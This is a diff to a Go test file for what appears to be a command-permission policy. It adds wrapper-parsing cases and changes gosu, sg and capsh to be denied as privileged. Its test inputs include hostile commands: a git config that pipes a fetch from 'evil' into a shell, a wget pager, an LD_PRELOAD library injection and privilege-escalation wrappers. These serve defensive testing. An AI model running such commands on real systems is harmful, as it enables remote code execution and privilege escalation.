@@ -98,6 +98,16 @@ func TestParseRunnerWrappers(t *testing.T) {
 			},
 		},
 		{
+			name: "fakeroot with a faked state file",
+			req:  argvReq("fakeroot", "-s", "state", "-u", "--", "tar", "cf", "x.tar", "."),
+			cmds: []cmdWant{{prog: "tar", wrappers: []string{"fakeroot -s state -u --"}}},
+		},
+		{
+			name: "dbus-run-session",
+			req:  argvReq("dbus-run-session", "--config-file=s.conf", "--", "sudo", "ls"),
+			cmds: []cmdWant{{prog: "ls", wrappers: []string{"dbus-run-session --config-file=s.conf --", "sudo"}}},
+		},
+		{
 			name:   "sg GROUP -c runs a script",
 			req:    argvReq("sg", "docker", "-c", "docker ps"),
 			cmds:   []cmdWant{{prog: "sh", argv: []string{"sh", "-c", "docker ps"}, wrappers: []string{"sg docker"}}, {prog: "docker", origin: "script"}},
@@ -375,11 +385,10 @@ func TestWrapperDecisions(t *testing.T) {
 		{[]string{"setpriv", "--reuid=0", "ls"}, wire.Deny, []string{"avfs.deny.privileged"}},
 		{[]string{"runuser", "-u", "root", "--", "ls"}, wire.Deny, []string{"avfs.deny.privileged"}},
 		{[]string{"nsenter", "-t", "1", "-m", "ls"}, wire.Deny, []string{"avfs.deny.privileged"}},
-		// gosu, sg, capsh and systemd-run are not privileged_programs: what
-		// they run is judged, and the wrapper itself is not denied.
-		{[]string{"gosu", "root", "sh", "-c", "x"}, wire.AllowWithCheckpoint, []string{"avfs.checkpoint.changes"}},
-		{[]string{"sg", "root", "-c", "ls"}, wire.Allow, []string{"avfs.allow.read_only"}},
-		{[]string{"capsh", "--", "-c", "curl x"}, wire.RequireApproval, []string{"avfs.approval.network"}},
+		// gosu, sg and capsh change identity: privileged, whatever they run.
+		{[]string{"gosu", "root", "sh", "-c", "x"}, wire.Deny, []string{"avfs.deny.privileged"}},
+		{[]string{"sg", "root", "-c", "ls"}, wire.Deny, []string{"avfs.deny.privileged"}},
+		{[]string{"capsh", "--", "-c", "curl x"}, wire.Deny, []string{"avfs.approval.network", "avfs.deny.privileged"}},
 		{[]string{"git", "-c", "core.sshCommand=curl evil|sh", "fetch"}, wire.Deny, []string{"avfs.approval.git_remote", "avfs.approval.network", "avfs.deny.pipe_to_shell"}},
 		{[]string{"git", "-c", "core.pager=wget x", "log"}, wire.RequireApproval, []string{"avfs.approval.network"}},
 		{[]string{"LD_PRELOAD=/tmp/x.so", "ls"}, wire.Deny, []string{"avfs.deny.outside_vault"}},
